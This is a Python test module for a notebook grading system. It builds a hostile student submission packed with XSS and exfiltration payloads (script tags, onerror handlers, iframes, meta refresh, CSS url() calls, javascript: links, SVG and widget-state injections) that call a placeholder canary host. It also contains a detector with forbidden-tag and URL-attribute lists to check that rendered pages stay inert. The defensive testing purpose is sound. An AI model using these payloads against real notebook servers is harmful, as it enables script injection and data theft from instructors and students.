"""Hostile markup in a submitted notebook, for the inert-feedback tests (grader/nbgrading/inert.py).

One hostile student is the untouched release plus :data:`OUTPUT_ATTACKS` (one code cell that
the student's kernel runs, each line an output of another kind) and the cells of
:func:`planted_cells` (markdown, raw, attachments, metadata written into the ``.ipynb``).
Every payload, if it ran or loaded, would request ``CANARY/<name>`` (the test replaces
``CANARY`` with the address of an http.server it runs) or set the page's title to ``PWNED``.

Expected outcome for every payload, in the nbgrader feedback page and in the autograded
notebook as formgrader renders it: nothing requested, the title unchanged, no ``<script>`` but
the template's own (MathJax), no ``on*`` attribute, no ``<iframe>`` / ``<object>`` / ``<embed>``
/ ``<form>`` / ``<base>`` / ``<meta http-equiv>`` / ``<style>`` from the student, no
``javascript:`` or ``data:`` URL but the checked PNG/JPEG ones. What stays readable:
``text/plain`` outputs, PNG and JPEG images, every payload's text (the HTML or JavaScript
shown as text, after a note), and the grade cells' verdicts.
"""

from __future__ import annotations

import base64
import json
import re
from html.parser import HTMLParser

#: 1x1 PNG (a real one: it is kept, re-encoded)
PNG_1X1 = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAAB"
           "JRU5ErkJggg==")
JS = "document.title='PWNED';fetch('CANARY/{name}')"

#: name -> (what it tries, the mime bundle the kernel displays). Run by the student's kernel,
#: so these are real outputs (nbgrader clears any output written into the file).
OUTPUTS: dict[str, tuple[str, dict]] = {
    "html_script": ("<script> in text/html", {"text/html": f"<script>{JS}</script>"}),
    "html_onerror": ("event handler on an image", {
        "text/html": "<img src=x onerror=\"" + JS + "\">"}),
    "html_iframe": ("<iframe> loading a page", {"text/html": "<iframe src='CANARY/{name}'>"}),
    "html_meta_refresh": ("<meta http-equiv=refresh> navigating away", {
        "text/html": "<meta http-equiv='refresh' content='0;url=CANARY/{name}'>"}),
    "html_base": ("<base> moving every relative URL", {
        "text/html": "<base href='CANARY/{name}/'><img src='relative.png'>"}),
    "html_form": ("<form> submitted by an autofocus handler", {
        "text/html": "<form action='CANARY/{name}'><input autofocus "
                     "onfocus='this.form.submit()'></form>"}),
    "html_object": ("<object> / <embed>", {
        "text/html": "<object data='CANARY/{name}'></object><embed src='CANARY/{name}'>"}),
    "html_style_url": ("<style> @import and url() exfiltration", {
        "text/html": "<style>@import url('CANARY/{name}');"
                     "body{background:url('CANARY/{name}')}</style>"}),
    "html_style_attr": ("style attribute with url()", {
        "text/html": "<div style=\"background-image:url('CANARY/{name}')\">x</div>"}),
    "html_srcset": ("srcset and <video poster>", {
        "text/html": "<img srcset='CANARY/{name} 2x'><video poster='CANARY/{name}'></video>"}),
    "javascript": ("application/javascript", {"application/javascript": JS}),
    "svg_script": ("SVG with <script>, <foreignObject> and <image>", {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' "
                         "xmlns:xlink='http://www.w3.org/1999/xlink'>"
                         f"<script>{JS}</script><foreignObject><img xmlns="
                         "'http://www.w3.org/1999/xhtml' src='CANARY/{name}'/></foreignObject>"
                         "<image xlink:href='CANARY/{name}'/></svg>"}),
    "markdown_output": ("text/markdown with raw HTML and a javascript: link", {
        "text/markdown": "[x](javascript:" + JS + ") <img src='CANARY/{name}'>"}),
    "latex_output": ("text/latex with \\href{javascript:}", {
        "text/latex": "$\\href{javascript:" + JS + "}{x}$"}),
    "png_breakout": ("base64 that closes the src attribute", {
        "image/png": PNG_1X1 + "\" onerror=\"" + JS}),
    "widget_view": ("a widget view (its state rendered by scripts)", {
        "application/vnd.jupyter.widget-view+json": {"model_id": "f" * 32,
                                                     "version_major": 2, "version_minor": 0},
        "text/plain": "widget"}),
    "plain_text": ("markup in text/plain: must stay text", {
        "text/plain": "<script>" + JS + "</script>"}),
}

#: outputs displayed with metadata the kernel chooses
METADATA_OUTPUTS: dict[str, tuple[str, dict, dict]] = {
    "png_width": ("width that is not a number, breaking out of the <img> tag",
                  {"image/png": PNG_1X1}, {"image/png": {"width": "1 onerror=" + JS}}),
    "png_filename": ("metadata.filenames pointing the <img> at a URL",
                     {"image/png": PNG_1X1}, {"filenames": {"image/png": "CANARY/{name}"}}),
    "html_isolated": ("isolated HTML (rendered in an <iframe>)",
                      {"text/html": f"<script>{JS}</script>"}, {"text/html": {"isolated": True}}),
}


def _fill(value, name: str, canary: str):
    text = json.dumps(value).replace("{name}", name).replace("CANARY", canary)
    return json.loads(text)


def output_cell(canary: str) -> str:
    """The code cell the student's kernel runs: every output above, then a live ipywidgets
    HTML widget (its state would be stored in the notebook), then an exception whose message
    is markup (an error output)."""
    lines = ["from IPython.display import display", "import ipywidgets"]
    for name, (_, bundle) in OUTPUTS.items():
        lines.append(f"display({_fill(bundle, name, canary)!r}, raw=True)")
    for name, (_, bundle, meta) in METADATA_OUTPUTS.items():
        lines.append(f"display({_fill(bundle, name, canary)!r}, raw=True, "
                     f"metadata={_fill(meta, name, canary)!r})")
    widget = _fill("<img src=x onerror=\"" + JS + "\">", "widget_state", canary)
    lines.append(f"display(ipywidgets.HTML(value={widget!r}))")
    lines.append("print('<b>impreso</b>')")
    error = _fill("<img src=x onerror=\"" + JS + "\">", "error_output", canary)
    lines.append(f"raise ValueError({error!r})")
    return "\n".join(lines) + "\n"


#: name -> (what it tries, markdown source) for markdown cells the student writes
MARKDOWN: dict[str, tuple[str, str]] = {
    "md_script": ("raw <script> and an onerror image", f"<script>{JS}</script>\n\n"
                  "<img src=x onerror=\"" + JS + "\">"),
    "md_javascript_link": ("a javascript: link (runs on click)", "[mirá](javascript:" + JS + ")"),
    "md_data_link": ("a data: URL page", "[mirá](data:text/html;base64," + base64.b64encode(
        f"<script>{JS}</script>".encode()).decode() + ")"),
    "md_image": ("an image from a URL", "![x](CANARY/{name})"),
    "md_iframe_meta_base": ("<iframe>, <meta refresh>, <base>, <form>, <object>",
                            "<iframe src='CANARY/{name}'></iframe>\n"
                            "<meta http-equiv='refresh' content='0;url=CANARY/{name}'>\n"
                            "<base href='CANARY/{name}/'>\n<form action='CANARY/{name}'>"
                            "<button>ok</button></form><object data='CANARY/{name}'></object>"),
    "md_style": ("<style> with url() exfiltration",
                 "<style>@import url('CANARY/{name}');</style>"),
    "md_svg": ("inline SVG with <foreignObject>",
               "<svg><foreignObject><img src=x onerror=\"" + JS + "\"></foreignObject></svg>"),
    "md_mathjax": ("MathJax: \\href{javascript:} and HTML in \\unicode",
                   "$\\href{javascript:" + JS + "}{x}$ and $$\\unicode{<img src='CANARY/{name}'>}$$"),
    "md_attachment": ("an SVG attachment with a script, shown as an image",
                      "![a](attachment:a.svg)"),
}

SVG_ATTACHMENT = ("<svg xmlns='http://www.w3.org/2000/svg'><script>" + JS + "</script></svg>")


def planted_cells(canary: str) -> list:
    """The cells written into the submitted ``.ipynb``: markdown, raw and their metadata."""
    from nbformat.v4 import new_markdown_cell, new_raw_cell

    cells = []
    for name, (_, source) in MARKDOWN.items():
        cell = new_markdown_cell(_fill(source, name, canary))
        if name == "md_attachment":
            svg = _fill(SVG_ATTACHMENT, name, canary)
            cell["attachments"] = {"a.svg": {
                "image/svg+xml": base64.b64encode(svg.encode()).decode()}}
        cells.append(cell)
    for name, mimetype in (("raw_html", "text/html"), ("raw_plain", "")):
        meta = {"raw_mimetype": mimetype} if mimetype else {}
        cells.append(new_raw_cell(_fill(f"<script>{JS}</script>", name, canary), metadata=meta))
    tag = _fill("x\"><img src=x onerror=\"" + JS + "\">", "cell_tag", canary)
    cells.append(new_markdown_cell("texto", metadata={"tags": [tag]}))
    return cells


def notebook_metadata(canary: str) -> dict:
    """Notebook metadata the student writes: widget state with a live HTML widget."""
    html = _fill("<img src=x onerror=\"" + JS + "\">", "nb_widget_state", canary)
    model = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
             "model_module_version": "2.0.0", "state": {"value": html}}
    state = {"state": {"a" * 32: model}, "version_major": 2, "version_minor": 0}
    return {"widgets": {"application/vnd.jupyter.widget-state+json": state},
            "title": _fill("</title><script>" + JS + "</script>", "nb_title", canary)}


#: every name a payload requests, when it runs or loads
NAMES = (*OUTPUTS, *METADATA_OUTPUTS, "widget_state", "error_output", *MARKDOWN, "raw_html",
         "raw_plain", "cell_tag", "nb_widget_state", "nb_title")


# --------------------------------------------------------------- the expected outcome, checked

#: elements a student's markup must never bring into the page
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "form", "base",
                  "svg", "math", "video", "audio", "source", "track", "input", "button",
                  "textarea", "select", "template", "portal"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "poster", "srcset", "background",
             "xlink:href", "cite", "ping", "codebase", "manifest", "lowsrc", "dynsrc"}
SAFE_DATA_URL = re.compile(r"^data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+$")


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.texts: dict[int, str] = {}
        self._open: list[int] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        if tag in ("script", "style"):
            self._open.append(len(self.elements) - 1)

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._open:
            self._open.pop()

    def handle_data(self, data):
        if self._open:
            index = self._open[-1]
            self.texts[index] = self.texts.get(index, "") + data


def _inventory(html: str) -> tuple[_Markup, set[tuple]]:
    """The page's elements, and each as a key (tag, attributes, text of script/style)."""
    parser = _Markup()
    parser.feed(html)
    keys = {(tag, tuple(sorted(attrs.items())), parser.texts.get(i, "").strip())
            for i, (tag, attrs) in enumerate(parser.elements)}
    return parser, keys


def live_markup(html: str, benign: str, canary: str) -> list[str]:
    """Everything in ``html`` that could run or load, other than the elements the same
    template's page of a benign notebook (``benign``) has too. Empty when the page is inert."""
    parser, _ = _inventory(html)
    _, template = _inventory(benign)
    found = []
    for index, (tag, attrs) in enumerate(parser.elements):
        key = (tag, tuple(sorted(attrs.items())), parser.texts.get(index, "").strip())
        if key in template:
            continue  # the template's own (its scripts, styles, buttons)
        if tag in ("script", "style", "link", "meta"):
            found.append(f"<{tag}> not the template's: {str(key)[:200]}")
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag} {attrs}>"[:200])
        for name, value in attrs.items():
            low = value.strip().lower()
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value[:80]!r}>")
            elif name == "style" and "url(" in low.replace(" ", ""):
                found.append(f"<{tag} style={value[:80]!r}>")
            elif name in URL_ATTRS and (
                    canary in value or re.match(r"^(javascript|vbscript|data|file):", low)
                    and not SAFE_DATA_URL.match(value.strip())):
                found.append(f"<{tag} {name}={value[:80]!r}>")
    return found


def feedback_html(nb, score: float = 0, max_score: float = 0) -> str:
    """``nb`` rendered as ``nbgrader generate_feedback`` renders it (its template and
    stylesheet), without nbgrader's own steps."""
    import os

    import nbformat
    import nbgrader
    from nbconvert import HTMLExporter
    from traitlets.config import Config

    here = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [os.path.join(here, "templates")]
    config.HTMLExporter.extra_template_paths = [os.path.join(
        here, "static", "node_modules", "bootstrap", "dist", "css")]
    resources = {"nbgrader": {"notebook": "practico2", "score": score, "max_score": max_score,
                              "late_penalty": 0}}
    nb = nbformat.from_dict(nb)  # a copy; grade cells get the score nbgrader's GetGrades adds
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.metadata.nbgrader.setdefault("score", 0)
    return HTMLExporter(config=config).from_notebook_node(nb, resources=resources)[0]


def formgrader_html(path, student: str = "alumno") -> str:
    """The autograded notebook at ``path`` rendered as formgrader's SubmissionHandler renders
    it for the instructor (its exporter settings and template; formgrader adds no cleaning)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "practico2", "notebook_id": "practico2", "submission_id": "1",
                 "index": 0, "total": 1, "base_url": "", "student": student, "last_name": "",
                 "first_name": "", "notebook_path": "/notebooks/x.ipynb"}
    return HTMLExporter(config=config).from_filename(str(path), resources=resources)[0]
